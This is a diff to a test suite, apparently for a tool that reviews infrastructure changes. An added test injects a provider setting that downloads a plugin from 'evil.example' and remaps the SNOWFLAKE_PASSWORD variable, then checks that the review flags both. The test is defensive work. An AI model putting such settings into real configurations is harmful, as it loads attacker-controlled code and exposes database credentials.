@@ -112,6 +112,19 @@ describe("the review of a change", () => {
     expectReviewed("warehouse-resized", reviewed);
   });
 
+  test("a login that another plugin makes: the engine calls it the same, and the review does not", async () => {
+    const elsewhere =
+      'pluginDownloadURL: "https://evil.example/x", envVarMappings: { OTHER: "SNOWFLAKE_PASSWORD" }';
+    stack.edit("config/snowflake-provider.ts", "{ transformations:", `{ ${elsewhere}, transformations:`);
+    const reviewed = await stack.preview("--no-refresh");
+    expect(reviewed.review.changes).toEqual([]);
+    expect(dangers(reviewed)).toEqual([
+      "The login snowflake (snowflake) has another envVarMappings, which the engine keeps.",
+      "The login snowflake (snowflake) has another pluginDownloadURL, which the engine keeps.",
+    ]);
+    expect(reviewed.exitCode).toBe(3);
+  });
+
   test("a column added: the table is altered, nothing is lost", async () => {
     stack.edit(
       "components/readings-columns.ts",
